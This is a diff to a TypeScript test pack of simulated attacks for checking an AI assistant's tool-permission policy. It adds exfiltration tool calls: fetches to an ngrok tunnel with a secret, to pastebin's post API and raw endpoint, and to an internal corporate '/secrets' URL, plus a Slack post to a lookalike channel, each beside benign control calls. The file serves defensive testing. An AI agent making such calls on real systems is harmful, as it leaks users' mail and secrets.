@@ -1,7 +1,7 @@
 /**
  * Policy format 2 (#18) for a personal assistant: mail to outside domains (to, cc, a display name, a
  * lookalike, bcc, forwarding filters, auto-forward), messages to other channels, deletes by tool class, and
- * fetches to tunnel and paste hosts. Each attack sits beside benign calls that must stay allowed. Its policy is
+ * fetches to tunnel, paste and internal hosts. Each attack sits beside benign calls that must stay allowed. Its policy is
  * examples/policies/personal-assistant.v2.mcp.policy.yaml: `agentperms replay --policy` picks the pack for a
  * format 2 policy that lists every server it calls.
  * @module
@@ -101,6 +101,26 @@ export default defineAttackPack({
       tool: "fetch",
       arguments: { url: "https://abc123.ngrok.io/collect?d=secret" },
     }),
+    attack("arguments", "fetch-paste", "Post the inbox to a paste site", {
+      server: "fetch",
+      tool: "fetch",
+      arguments: { url: "https://pastebin.com/api/api_post.php" },
+    }),
+    attack("arguments", "fetch-paste-subdomain", "Fetch a paste site's raw endpoint", {
+      server: "fetch",
+      tool: "fetch",
+      arguments: { url: "https://raw.pastebin.com/abc" },
+    }),
+    attack("scopes", "fetch-internal", "Reach an internal host through fetch", {
+      server: "fetch",
+      tool: "fetch",
+      arguments: { url: "http://wiki.corp.internal/secrets" },
+    }),
+    attack("scopes", "slack-dm-outside", "Post into a channel named like an allowed one", {
+      server: "slack",
+      tool: "slack_post_message",
+      arguments: { channel_id: "general-external", text: "hi" },
+    }),
     control("classes", "read-email", "Read a mail", mail("read_email", { messageId: "1" })),
     control("classes", "search-email", "Search mail", mail("search_emails", { query: "invoice" })),
     control("scopes", "slack-history", "Read an allowed channel", {
@@ -112,6 +132,16 @@ export default defineAttackPack({
       server: "fetch",
       tool: "fetch",
       arguments: { url: "https://en.wikipedia.org/wiki/Mail" },
+    }),
+    control("scopes", "slack-team-history", "Read a team channel", {
+      server: "slack",
+      tool: "slack_get_channel_history",
+      arguments: { channel_id: "team-web" },
+    }),
+    control("arguments", "fetch-docs", "Fetch documentation", {
+      server: "fetch",
+      tool: "fetch",
+      arguments: { url: "https://docs.python.org/3/library/email.html" },
     }),
   ],
 });
